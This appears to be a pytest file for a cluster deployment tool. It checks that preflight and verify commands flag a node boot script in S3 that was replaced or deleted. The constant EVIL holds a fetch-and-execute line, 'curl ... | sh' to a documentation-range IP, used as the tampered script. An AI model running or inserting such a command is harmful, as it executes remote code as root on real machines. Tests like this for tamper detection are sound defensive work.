"""`hyperpod-dpd preflight` and `verify --stack` read the nodes' boot script back from S3 (a local
moto server) and compare its SHA-256 with the one the stack's `pulumi up` recorded (the outputs
lifecycleBucket and lifecycleScriptSha256, from a `pulumi` shim on PATH): a replaced or deleted
script fails with the cause, the fix and the troubleshooting section; one that cannot be
compared (no stack output) warns (preflight) or is skipped (verify)."""

from __future__ import annotations

import argparse
import hashlib
import json

import boto3
import pytest

from hyperpod_dpd.cli.preflight import register
from hyperpod_dpd.preflight.checks import FAIL, PASS, WARN, _boot_script
from hyperpod_dpd.shared import boot_script
from hyperpod_dpd.shared.boot_script import Deployed, compare
from hyperpod_dpd.verify.results import SKIP
from specs.lifecycle import ON_CREATE_KEY, on_create_bytes, on_create_sha256
from tests.checkpoint.s3server import QuietMotoServer
from tests.conftest import stack_raw, write_project
from tests.hyperpod_dpd.verify.conftest import parse
from tests.hyperpod_dpd.verify.fake_kube import FakeKube

BUCKET = "sagemaker-70dfea2b216bc8352929"
REGION = "us-east-2"


@pytest.fixture(scope="module")
def s3_server():
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("AWS_ACCESS_KEY_ID", "testing")
        mp.setenv("AWS_SECRET_ACCESS_KEY", "testing")
        mp.delenv("AWS_PROFILE", raising=False)
        with QuietMotoServer() as server:
            yield server.endpoint


@pytest.fixture
def s3(s3_server, monkeypatch):
    """A client of the local S3, the versioned lifecycle bucket holding this checkout's script
    as `pulumi up` uploads it."""
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    client = boto3.client("s3", endpoint_url=s3_server, region_name=REGION)
    names = {b["Name"] for b in client.list_buckets()["Buckets"]}
    if BUCKET not in names:
        client.create_bucket(
            Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION}
        )
        client.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    client.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=on_create_bytes())
    return client


DEPLOYED = Deployed("dev", BUCKET, on_create_sha256())
EVIL = b"#!/bin/bash\ncurl -s http://198.51.100.7/x | sh\n"


def test_the_script_pulumi_uploaded_passes(s3):
    v = compare(s3, DEPLOYED)
    assert v.result == "pass", v
    assert v.detail.startswith(f"s3://{BUCKET}/{ON_CREATE_KEY} (version ")
    assert f"sha256 {on_create_sha256()[:12]}" in v.detail


def test_a_replaced_script_fails_naming_both_digests_the_cause_and_the_fix(s3):
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    v = compare(s3, DEPLOYED)
    assert v.result == "FAIL"
    evil = hashlib.sha256(EVIL).hexdigest()
    assert f"has sha256 {evil[:12]}" in v.detail
    assert f"not the {on_create_sha256()[:12]} `pulumi up` uploaded" in v.detail
    assert "ran that script as root" in v.cause
    assert f"list-object-versions --bucket {BUCKET} --prefix {ON_CREATE_KEY}" in v.fix
    assert "pulumi up --refresh --stack dev" in v.fix and "replace every node" in v.fix
    assert v.ref == "docs/troubleshooting.md#boot-script-changed"


def test_a_deleted_script_fails(s3):
    s3.delete_object(Bucket=BUCKET, Key=ON_CREATE_KEY)  # a delete marker: versions stay
    v = compare(s3, DEPLOYED)
    assert v.result == "FAIL" and "does not exist" in v.detail and v.fix


def test_a_checkout_ahead_of_the_stack_is_said_not_failed(s3):
    """The repository's script changed since the last `pulumi up`: S3 still holds the deployed
    one, which passes; the detail says the next `pulumi up` uploads the new one."""
    older = b"#!/bin/bash\necho older\n"
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=older)
    v = compare(s3, Deployed("dev", BUCKET, hashlib.sha256(older).hexdigest()))
    assert v.result == "pass" and "the next `pulumi up` uploads it" in v.detail


def test_preflight_fails_a_changed_script_and_warns_when_it_cannot_compare(s3):
    assert _boot_script(DEPLOYED, lambda service: s3).result == PASS
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    check = _boot_script(DEPLOYED, lambda service: s3)
    assert check.name == boot_script.CHECK and check.result == FAIL
    assert "see docs/troubleshooting.md#boot-script-changed" in check.fix
    unknown = Deployed("dev", None, None, "no lifecycleBucket output (no `pulumi` on PATH)")
    warned = _boot_script(unknown, lambda service: pytest.fail("no S3 call without a bucket"))
    assert warned.result == WARN and "no `pulumi` on PATH" in warned.detail


def _pulumi_says(tmp_path, monkeypatch, outputs: dict[str, str]) -> None:
    """A `pulumi` on PATH whose `stack output NAME --stack S` prints the named output."""
    shims = tmp_path / "bin"
    shims.mkdir(exist_ok=True)
    cases = "".join(f"  {name}) echo {value} ;;\n" for name, value in outputs.items())
    (shims / "pulumi").write_text(f'#!/bin/sh\ncase "$3" in\n{cases}  *) exit 1 ;;\nesac\n')
    (shims / "pulumi").chmod(0o755)
    monkeypatch.setenv("PATH", f"{shims}:/usr/bin:/bin")


def test_preflight_command_reads_the_stack_outputs(s3, tmp_path, monkeypatch, capsys):
    """The whole command: the outputs from `pulumi stack output`, the object from S3."""
    from hyperpod_dpd.preflight import command

    project = write_project(tmp_path / "project", stack_raw("dev"), "dev")
    _pulumi_says(tmp_path, monkeypatch, {
        "lifecycleBucket": BUCKET, "lifecycleScriptSha256": on_create_sha256(),
    })  # fmt: skip
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    monkeypatch.setattr(command.aws_checks, "_STEPS", ())  # the capacity checks: test_checks.py
    parser = argparse.ArgumentParser(prog="hyperpod-dpd")
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["preflight", "--stack", "dev", "--format", "json"])
    args.client_factory = lambda service: s3
    assert command.run(args, project) == 1
    (row,) = json.loads(capsys.readouterr().out)
    assert row["name"] == boot_script.CHECK and row["result"] == FAIL


@pytest.fixture
def fake():
    kube = FakeKube()
    with kube.serving():
        yield kube


def test_verify_with_a_stack_fails_a_changed_script(s3, fake, tmp_path, monkeypatch, capsys):
    from hyperpod_dpd.verify.command import run

    project = write_project(tmp_path / "project", stack_raw("dev"), "dev")
    argv = ["--kubeconfig", str(fake.kubeconfig(tmp_path)), "--stack", "dev", "--no-prompts",
            "--format", "json", "--api-timeout", "5", "--poll-interval", "0.01"]  # fmt: skip
    args = parse(argv)
    args.client_factory = lambda service: s3
    # No stack outputs here: the check says why it was skipped.
    monkeypatch.setenv("PATH", str(tmp_path / "nothing"))
    run(args, project)
    skipped = json.loads(capsys.readouterr().out)["checks"][-1]
    assert skipped["name"] == boot_script.CHECK and skipped["result"] == SKIP
    _pulumi_says(tmp_path, monkeypatch, {
        "lifecycleBucket": BUCKET, "lifecycleScriptSha256": on_create_sha256(),
    })  # fmt: skip
    run(args, project)
    assert json.loads(capsys.readouterr().out)["checks"][-1]["result"] == "pass"
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    assert run(args, project) == 1
    check = json.loads(capsys.readouterr().out)["checks"][-1]
    assert check["name"] == boot_script.CHECK and check["result"] == "FAIL"
    assert check["ref"] == "docs/troubleshooting.md#boot-script-changed"
    assert "pulumi up --refresh --stack dev" in check["fix"]
